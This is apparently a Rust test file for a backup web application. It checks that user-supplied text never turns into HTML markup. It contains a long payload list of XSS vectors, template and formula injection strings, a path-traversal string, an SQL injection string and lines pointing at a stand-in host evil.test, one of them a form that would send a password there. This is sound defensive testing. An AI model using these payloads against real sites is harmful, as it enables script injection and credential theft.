//! Texts that try to become markup: stored wherever people, sites and machines can put words, typed into every field, and
//! then every page is taken apart by an HTML tokenizer that does as browsers do. A page with such a text must have the
//! elements and attributes of the same page with a harmless one, and the text must be read back as it was.

use super::world::{CANARY, World, mark};
use crate::support::app::Things;
use crate::support::http::encoded;
use html5gum::{Token, Tokenizer};
use std::collections::BTreeSet;
use std::path::Path;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "\n</textarea>x",
    "</title><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></li></ul><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</table><img src=x onerror=alert(1)>",
    "</svg><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<form action=//evil.test><input name=password>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<button formaction=javascript:alert(1)>x",
    "<x contenteditable onblur=alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\" autofocus onfocus=\"alert(1)",
    "` onmouseover=alert(1) x=`",
    "\"/><svg onload=alert(1)>",
    "x\" style=\"position:fixed;inset:0\" y=\"",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "&ltscript&gtalert(1)",
    "&NewLine;&Tab;&nbsp;&notin;&not;in",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "#{7*7}",
    "\u{202e}<tpircs>\u{202c}",
    "\u{feff}<script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{ad}ipt>alert(1)</script>",
    "<script\u{2028}>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "Robert'); drop table backups;--",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<a\thref=x\nonclick=alert(1)>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<!DOCTYPE x><html><head>",
];

/// A page as a browser's tokenizer sees it.
#[derive(Default)]
struct Parsed {
    /// Each element with the names of its attributes, and each comment.
    skeleton: Vec<String>,
    /// All that is read, and all values of attributes.
    texts: Vec<String>,
}

fn parsed(what: &str, page: &str) -> Parsed {
    let mut emitter = html5gum::DefaultEmitter::<()>::default();
    emitter.naively_switch_states(true);
    let mut out = Parsed::default();
    let (mut text, mut within) = (String::new(), String::new());
    for token in Tokenizer::new_with_emitter(page, emitter) {
        let Ok(token) = token;
        if let Token::String(s) = &token {
            text.push_str(&String::from_utf8_lossy(&s.value));
            continue;
        }
        if matches!(token, Token::Error(_)) {
            continue;
        }
        assert!(within != "script" || text.is_empty(), "{what}: a script within the page: {text}");
        out.texts.push(std::mem::take(&mut text));
        match token {
            Token::StartTag(tag) => {
                within = String::from_utf8_lossy(&tag.name).into_owned();
                let attributes: Vec<(String, String)> = tag
                    .attributes
                    .iter()
                    .map(|(n, v)| (String::from_utf8_lossy(n).into_owned(), String::from_utf8_lossy(v).into_owned()))
                    .collect();
                harmless(what, &within, &attributes);
                let names: Vec<&str> = attributes.iter().map(|(n, _)| n.as_str()).collect();
                out.skeleton.push(format!("{within} {}", names.join(" ")));
                out.texts.extend(attributes.into_iter().map(|(_, v)| v));
            }
            Token::EndTag(tag) => {
                within.clear();
                out.skeleton.push(format!("/{}", String::from_utf8_lossy(&tag.name)));
            }
            Token::Comment(comment) => {
                let comment = String::from_utf8_lossy(&comment.value).into_owned();
                // The renderer marks what is empty.
                assert!(["", "<() />"].contains(&comment.as_str()), "{what}: a comment: {comment}");
            }
            _ => {}
        }
    }
    out.texts.push(text);
    out
}

/// Nothing that the policy of the page would have to stop.
fn harmless(what: &str, name: &str, attributes: &[(String, String)]) {
    const NEVER: [&str; 10] = ["style", "base", "iframe", "object", "embed", "frame", "applet", "math", "template", "plaintext"];
    assert!(!NEVER.contains(&name), "{what}: <{name}> {attributes:?}");
    let value = |wanted: &str| attributes.iter().find(|(n, _)| n == wanted).map(|(_, v)| v.as_str());
    if name == "script" {
        let src = value("src").unwrap_or_default();
        assert!(src.starts_with("/assets/script.") && src.ends_with(".js"), "{what}: a script from {src:?}");
    }
    if name == "meta" {
        assert!(value("http-equiv").is_none_or(|_| value("content") == Some("4")), "{what}: {attributes:?}");
    }
    for (attribute, value) in attributes {
        let never = attribute.starts_with("on") || ["style", "srcdoc", "background", "ping", "manifest"].contains(&attribute.as_str());
        assert!(!never, "{what}: <{name} {attribute}={value:?}>");
        if ["href", "src", "action", "formaction", "xlink:href", "data", "poster"].contains(&attribute.as_str()) {
            let own =
                value.starts_with('/') && !value.starts_with("//") || value.starts_with('#') || value.starts_with("http://sitekeep.test/");
            assert!(own, "{what}: <{name} {attribute}={value:?}>");
        }
    }
}

/// The pages that show what was marked.
fn pages(world: &World, things: &Things) -> Vec<String> {
    let environment = format!("/environments/{}", things.environment);
    let preview = format!("{environment}/restore/preview?backup={}&element=code", things.backup);
    vec![
        environment.clone(),
        format!("/backups/{}", things.backup),
        format!("/backups/{}?link={}", things.backup, things.link),
        format!("/restores/{}", things.restore),
        format!("/drills/{}", things.drill),
        format!("/jobs/{}", things.job),
        "/jobs".into(),
        format!("{environment}/restore"),
        preview,
        "/account".into(),
        format!("/tenants/{}", world.acme),
        "/admin/activity".into(),
    ]
}

fn reader_of(path: &str) -> &'static str {
    if path.starts_with("/admin") { "administrator" } else { "owner" }
}

/// Who asks, how, for what, and the fields of the form.
type Typing = (&'static str, &'static str, String, Vec<(&'static str, String)>);

/// The pages on which somebody types the text: who asks, how, and with what.
fn typed(things: &Things, text: &str) -> Vec<Typing> {
    let (own, word) = (format!("/environments/{}", things.environment), encoded(text));
    let mut all = vec![
        ("owner", "GET", format!("/?q={word}"), vec![]),
        ("owner", "GET", format!("/?q=shop&state={word}"), vec![]),
        ("owner", "GET", format!("/?after={word}"), vec![]),
        ("", "GET", format!("/signin?next=/{word}"), vec![]),
        ("", "POST", "/signin".into(), vec![("email", text.to_owned()), ("password", "wrong".into()), ("next", format!("/{text}"))]),
        ("", "POST", format!("{own}/backups"), vec![("note", text.to_owned()), ("element", text.to_owned())]),
        ("owner", "GET", format!("/nothing/{word}"), vec![]),
        ("owner", "GET", format!("/d/{word}/{word}"), vec![]),
        ("owner", "GET", format!("/events?of={word}"), vec![]),
        ("owner", "GET", format!("/jobs?state={word}"), vec![]),
        ("owner", "GET", format!("/jobs?after={word}"), vec![]),
        ("owner", "POST", format!("{own}/backups"), vec![("note", text.to_owned()), ("element", "soul".into()), ("days", text.to_owned())]),
        (
            "owner",
            "POST",
            format!("{own}/backups"),
            vec![("note", text.to_owned()), ("element", "code".into()), ("keep", "days".into()), ("days", text.to_owned())],
        ),
        ("owner", "POST", format!("{own}/restores"), vec![("backup", text.to_owned()), ("element", "code".into())]),
        (
            "owner",
            "POST",
            format!("{own}/restores"),
            vec![("backup", things.backup.0.clone()), ("element", "code".into()), ("confirm", text.to_owned())],
        ),
    ];
    all.extend([
        ("owner", "POST", "/account/profile".into(), vec![("name", text.to_owned()), ("zone", "nowhere".into())]),
        ("owner", "POST", "/account/profile".into(), vec![("name", "x".into()), ("zone", text.to_owned())]),
        ("owner", "POST", "/account/tokens".into(), vec![("label", text.to_owned()), ("scope", "view".into()), ("days", text.to_owned())]),
        ("", "POST", "/forgotten".into(), vec![("email", text.to_owned())]),
        ("", "GET", format!("/first/{word}"), vec![]),
        ("administrator", "POST", "/admin/tenants".into(), vec![("name", format!("{text} "))]),
        ("administrator", "GET", format!("/admin/accounts?q={word}"), vec![]),
        ("administrator", "GET", format!("/admin/activity?actor={word}&action={word}"), vec![]),
        ("administrator", "GET", format!("/admin/activity?tenant={word}&from={word}"), vec![]),
        ("administrator", "GET", format!("/admin/sites/add?path={word}&site={word}&url={word}&files={word}&exclude={word}"), vec![]),
        (
            "administrator",
            "POST",
            "/admin/sites/add".into(),
            vec![("path", text.to_owned()), ("site", text.to_owned()), ("files", text.to_owned())],
        ),
        (
            "administrator",
            "POST",
            "/admin/servers".into(),
            vec![("name", text.to_owned()), ("host", text.to_owned()), ("user", text.to_owned())],
        ),
    ]);
    for field in ["q", "state", "element", "how", "from", "until", "after", "trash"] {
        all.push(("owner", "GET", format!("{own}?{field}={word}"), vec![]));
    }
    for field in ["backup", "element", "to", "table"] {
        all.push(("owner", "GET", format!("{own}/restore?{field}={word}"), vec![]));
        all.push(("owner", "GET", format!("{own}/restore/preview?backup={}&element=code&{field}={word}", things.backup), vec![]));
    }
    all
}

/// How often the text, and nothing around it, is read back.
fn found(page: &Parsed, text: &str) -> usize {
    page.texts.iter().map(|t| t.matches(text).count()).sum()
}

/// As a sentence begins; nothing where that is the same.
fn large(text: &str) -> String {
    let mut chars = text.chars();
    let large: String = chars.next().map_or_else(String::new, |first| first.to_uppercase().chain(chars).collect());
    if large == text { "\0".into() } else { large }
}

#[test]
fn no_text_becomes_markup_wherever_it_was_stored() {
    let world = World::new();
    let things = world.things(&world.shop);
    let (mut read, mut seen) = (0, 0);
    // A job that waits shows what it waits for, one that failed why.
    for state in ["queued", "failed"] {
        let text = "update jobs set state = ?2, finished_at = case when ?2 = 'failed' then created_at end where id = ?1";
        world.db().execute(text, [things.job.as_str(), state]).unwrap();
        mark(&world, &things, CANARY);
        let plain: Vec<Parsed> = pages(&world, &things).iter().map(|path| parsed(path, &world.get(reader_of(path), path).body)).collect();
        for payload in PAYLOADS {
            mark(&world, &things, payload);
            for (path, plain) in pages(&world, &things).iter().zip(&plain) {
                let page = world.get(reader_of(path), path);
                assert_eq!(page.status, 200, "{path} with {payload:?}");
                let hostile = parsed(&format!("{path} with {payload:?}"), &page.body);
                assert_eq!(hostile.skeleton, plain.skeleton, "{path} with {payload:?}");
                // How often depends on the page: some shorten, some go on on the next one, and a message begins with a
                // large letter. But each shows it.
                let is = found(&hostile, payload) + found(&hostile, &large(payload));
                assert!(is > 0, "{path} does not show {payload:?}");
                (read, seen) = (read + is, seen + 1);
            }
        }
    }
    println!("{} texts on {seen} pages, read back {read} times", PAYLOADS.len());
    assert!(read > seen, "the texts are shown: {read} times on {seen} pages");
    assert!(PAYLOADS.len() >= 60 && PAYLOADS.iter().collect::<BTreeSet<_>>().len() == PAYLOADS.len());
}

#[test]
fn no_text_becomes_markup_wherever_it_is_typed() {
    let world = World::new();
    let things = world.things(&world.shop);
    let live = "update environments set definition = json_set(definition, '$.live', json('true')) where id = ?1";
    world.db().execute(live, [things.environment.as_str()]).unwrap();
    let ask = |(who, method, path, fields): &(&'static str, &'static str, String, Vec<(&'static str, String)>)| {
        world.get(who, "/jobs"); // takes away the sentence about the act before
        let fields: Vec<(&str, &str)> = fields.iter().map(|(n, v)| (*n, v.as_str())).collect();
        if *method == "GET" { world.get(who, path) } else { world.post(who, path, &fields) }
    };
    let mut seen = 0;
    for payload in PAYLOADS {
        // Nobody may be kept out by guesses while this goes on.
        world.db().execute("delete from guesses", []).unwrap();
        for (hostile, harmless) in typed(&things, payload).iter().zip(typed(&things, "zzz")) {
            let (page, plain) = (ask(hostile), ask(&harmless));
            let what = format!("{} {} with {payload:?}", hostile.1, hostile.2);
            assert!(page.status < 500, "{what}: {} {}", page.status, page.body);
            let (page_is, plain_is) = (parsed(&what, &page.body), parsed("zzz", &plain.body));
            // Another place in the fleet is another list.
            if page.status == plain.status && !hostile.2.starts_with("/?after=") {
                assert_eq!(page_is.skeleton, plain_is.skeleton, "{what}");
            }
            seen += 1;
        }
    }
    println!("{} texts typed into {} fields: {seen} pages", PAYLOADS.len(), typed(&things, "").len());
}

/// A note goes through its form and comes back, to be changed, as it was.
#[test]
fn a_note_comes_back_as_it_was_typed() {
    let world = World::new();
    let things = world.things(&world.shop);
    let path = format!("/backups/{}", things.backup);
    for payload in PAYLOADS.iter().map(|p| p.trim()).chain(["two\nlines", "two\r\nlines"]) {
        let stored_as = payload.replace("\r\n", "\n");
        let refused = payload.contains('\t');
        assert_eq!(world.post("owner", &format!("{path}/note"), &[("note", payload)]).status, 303);
        let stored: String =
            world.db().query_row("select note from backups where id = ?1", [things.backup.as_str()], |r| r.get(0)).unwrap();
        assert_eq!(stored == stored_as, !refused, "{payload:?} is kept as {stored:?}");
        if refused {
            continue;
        }
        let payload = stored_as.as_str();
        let page = parsed(payload, &world.get("owner", &path).body);
        assert!(page.texts.iter().any(|t| t.strip_prefix('\n') == Some(payload)), "{payload:?} is not in its field: {:?}", page.texts);
        assert!(page.texts.iter().any(|t| t.trim_end() == payload), "{payload:?} is not above the page");
    }
}

/// Where the renderer does not escape, one file does, and it says so.
#[test]
fn what_is_not_escaped_by_the_renderer_is_written_in_two_places_only() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/ui");
    let mut found = BTreeSet::new();
    let mut todo = vec![root.clone()];
    while let Some(dir) = todo.pop() {
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            if entry.path().is_dir() {
                todo.push(entry.path());
                continue;
            }
            let text = std::fs::read_to_string(entry.path()).unwrap();
            let code: Vec<&str> = text.lines().filter(|l| !l.trim_start().starts_with("//")).collect();
            for word in [
                "inner_html",
                "<textarea",
                "<noscript",
                "<style",
                "<script",
                "style=",
                "style:b",
                "style:w",
                "style:h",
                "srcdoc",
                "<iframe",
            ] {
                if code.iter().any(|line| line.contains(word)) {
                    found.insert((entry.path().strip_prefix(&root).unwrap().display().to_string(), word));
                }
            }
        }
    }
    let approved = [("kit.rs".to_owned(), "<textarea"), ("shell.rs".to_owned(), "<noscript"), ("shell.rs".to_owned(), "<script")];
    let more: Vec<_> = found.iter().filter(|f| !approved.contains(f)).collect();
    assert!(more.is_empty(), "the text within these is not escaped; see kit.rs: {more:?}");
}
